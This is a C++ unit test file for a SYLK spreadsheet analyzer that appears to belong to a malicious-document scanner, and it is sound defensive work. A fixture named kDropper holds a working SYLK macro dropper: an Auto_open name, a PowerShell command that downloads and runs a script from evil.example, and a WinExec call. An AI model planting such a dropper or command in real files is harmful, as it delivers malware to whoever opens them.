// SylkAnalyzer on generated SYLK text: macro-sheet option, cells, names, escapes, size.
#include "analyzers/sylk/sylk_analyzer.h"

#include <gtest/gtest.h>

#include "core/file_type.h"
#include "core/testing/recording_context.h"

namespace lg {
namespace {

using testing::RecordingContext;

RecordingContext run(std::string_view text) {
  RecordingContext ctx;
  SylkAnalyzer a;
  EXPECT_TRUE(a.analyze(as_bytes(text), ctx).is_ok());
  return ctx;
}

constexpr std::string_view kDropper =
    "ID;PWXL;N;E\r\n"
    "O;L;E;D;V0;K47;G100 0.001\r\n"
    "NN;NAuto_open;ER1C1\r\n"
    "C;Y1;X1;K0;EEXEC(\"cmd /c powershell iwr http://evil.example/a.ps1 -o a.ps1;; a.ps1\")\r\n"
    "C;Y2;K0;ECALL(\"Kernel32\",\"WinExec\",\"JCJ\",\"calc\",0)\r\n"
    "F;X3;Y9\r\n"
    "C;K1;EHALT()\r\n"
    "E\r\n";

TEST(SylkAnalyzer, IdentifiedAsSylk) { EXPECT_EQ(identify(as_bytes(kDropper)), FileType::kSylk); }

TEST(SylkAnalyzer, MacroSheetWithAutoOpenAndExec) {
  RecordingContext ctx = run(kDropper);
  EXPECT_TRUE(ctx.has(Symbol::XLM_MACRO_SHEET));
  EXPECT_TRUE(ctx.has(Symbol::XLM_AUTO_OPEN));
  EXPECT_TRUE(ctx.has(Symbol::XLM_EXECUTE));
  const std::string text = ctx.all_text(TextKind::kMacro);
  // ";;" is an escaped ';' inside the expression.
  EXPECT_NE(text.find("SYLK!A1: =EXEC(\"cmd /c powershell iwr http://evil.example/a.ps1 -o "
                      "a.ps1; a.ps1\")"),
            std::string::npos)
      << text;
  // A cell without X keeps the column; F moves the current cell.
  EXPECT_NE(text.find("SYLK!A2: =CALL(\"Kernel32\",\"WinExec\",\"JCJ\",\"calc\",0)"),
            std::string::npos);
  EXPECT_NE(text.find("SYLK!C9: =HALT()"), std::string::npos);
  EXPECT_NE(text.find("Name Auto_open: =R1C1"), std::string::npos);
  EXPECT_EQ(ctx.num("xlm_formula_count"), 3);
}

TEST(SylkAnalyzer, WorksheetWithoutTheMacroOptionReportsNoMacro) {
  RecordingContext ctx = run("ID;PWXL;N;E\nC;Y1;X1;K3;ESUM(1,2)\nNN;NAuto_open;ER1C1\nE\n");
  EXPECT_TRUE(ctx.findings.empty());
  EXPECT_EQ(ctx.num("sylk_records"), 4);
}

TEST(SylkAnalyzer, Windows1252NamesBecomeUtf8) {
  RecordingContext ctx =
      run("ID;P\nO;E\nNN;NAuto_\xD6"
          "ffnen;ER1C1\nC;Y1;X1;EHALT()\n");
  EXPECT_TRUE(ctx.has(Symbol::XLM_AUTO_OPEN));
  EXPECT_NE(ctx.all_text(TextKind::kMacro).find("Name Auto_Öffnen"), std::string::npos);
}

TEST(SylkAnalyzer, ManyRecordsInOnePass) {
  std::string text = "ID;P\nO;E\n";
  for (int i = 0; i < 200000; ++i) text += "C;Y" + std::to_string(i + 1) + ";X1;EHALT()\n";
  RecordingContext ctx = run(text);
  EXPECT_EQ(ctx.num("xlm_formula_count"), 200000);
  EXPECT_EQ(ctx.num("sylk_records"), 200002);
}

TEST(SylkAnalyzer, GarbageIsNotACrash) {
  std::string junk = "ID;P\nO;E\n";
  for (int i = 0; i < 5000; ++i) junk += static_cast<char>((i * 131) % 256);
  RecordingContext ctx = run(junk);
  (void)ctx;
}

}  // namespace
}  // namespace lg
